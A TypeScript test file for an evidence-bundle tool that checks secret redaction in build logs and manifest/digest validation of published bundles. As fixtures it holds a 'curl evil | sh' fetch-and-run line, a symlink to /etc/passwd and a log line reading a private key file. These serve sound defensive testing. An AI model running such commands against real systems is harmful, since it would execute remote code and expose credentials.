// One redaction rule for everything written: a build log with a PEM key, a GitHub installation token, a
// password in a URL and the bot's own secrets comes out of the bundle without any of them; and a
// bundle is published as exactly the files its manifest lists, each checked against its digest.

import { generateKeyPairSync } from "node:crypto";
import { mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { writeEvidenceBundle } from "../../../src/gates/evidence/evidence-bundle.js";
import { listBundleFiles } from "../../../src/gates/evidence/manifest.js";
import { readManifestedFiles } from "../../../src/gates/evidence/manifested-files.js";
import { createRedactor, REDACTED, registerOwnSecrets } from "../../../src/gates/evidence/redaction.js";
import { buildGateRun, builtSource } from "../../support/gate-run-fixture.js";

const PEM = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }).toString();
const TOKEN = `ghs_${"A1b2C3d4".repeat(5)}`;
const DASHBOARD = "dash-board-token-0123456789abcdef";
const BUILD_LOG = [
  "> npm ci",
  `cat /run/keys/evidence.pem\n${PEM}`,
  `GITHUB_TOKEN=${TOKEN}`,
  `curl -H 'x: ${DASHBOARD}' http://127.0.0.1:3000/runs`,
  "git clone https://builder:s3cr3t-pass@git.example.com/acme/service.git",
  "built in 2.1 s",
].join("\n");

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "one-redaction-"));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("one redaction rule", () => {
  test("PEM blocks, GitHub tokens and URL passwords go, whoever's they are; the bot's registered secrets go too", () => {
    registerOwnSecrets([DASHBOARD]);
    const out = createRedactor([])(BUILD_LOG);
    for (const secret of [TOKEN, DASHBOARD, "s3cr3t-pass", PEM.split("\n")[1]!]) expect(out).not.toContain(secret);
    expect(out).toContain(`-----BEGIN PRIVATE KEY----- ${REDACTED} -----END PRIVATE KEY-----`);
    expect(out).toContain("https://builder:[REDACTED]@git.example.com");
    expect(out).toContain("built in 2.1 s");
  });

  test("a registered PEM key is caught even when one line of it is printed on its own", () => {
    const other = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }).toString();
    registerOwnSecrets([other]);
    const line = other.split("\n")[1]!;
    expect(createRedactor([])(`leaked: ${line}`)).toBe(`leaked: ${REDACTED}`);
  });

  test("the build log written to the evidence carries none of them", async () => {
    registerOwnSecrets([DASHBOARD]);
    const fixture = await buildGateRun({ scale: 0.01 });
    const run = {
      ...fixture,
      source: builtSource(fixture, BUILD_LOG),
    };
    await writeEvidenceBundle(join(dir, "b"), run);
    const files = await listBundleFiles(join(dir, "b"));
    let all = "";
    for (const f of files) all += await readFile(join(dir, "b", f), "latin1");
    expect(all).toContain("built in 2.1 s");
    for (const secret of [TOKEN, DASHBOARD, "s3cr3t-pass", PEM.split("\n")[1]!]) expect(all).not.toContain(secret);
  });
});

describe("the files a bundle is published as", () => {
  test("exactly the manifest's files and the manifest; a file dropped in the folder is named and left out", async () => {
    const bundle = join(dir, "b");
    const written = await writeEvidenceBundle(bundle, await buildGateRun({ scale: 0.01 }));
    await writeFile(join(bundle, "dropped.sh"), "curl evil | sh\n");
    const { files, stray } = await readManifestedFiles(bundle);
    expect(files.map((f) => f.path).sort()).toEqual([...written.files].sort());
    expect(stray).toEqual(["dropped.sh"]);
  });

  test("a listed file altered, removed or replaced by a link makes the bundle unpublishable, naming the file", async () => {
    const bundle = join(dir, "b");
    await writeEvidenceBundle(bundle, await buildGateRun({ scale: 0.01 }));
    await writeFile(join(bundle, "verdict.json"), "{}\n");
    await expect(readManifestedFiles(bundle)).rejects.toMatchObject({
      code: "bundle_inconsistent",
      message: expect.stringContaining("verdict.json does not match its digest in SHA256SUMS"),
    });
    await rm(join(bundle, "verdict.json"));
    await symlink("/etc/passwd", join(bundle, "verdict.json"));
    await expect(readManifestedFiles(bundle)).rejects.toMatchObject({
      message: expect.stringContaining("verdict.json is listed in SHA256SUMS but is missing or not a regular file"),
    });
  });
});
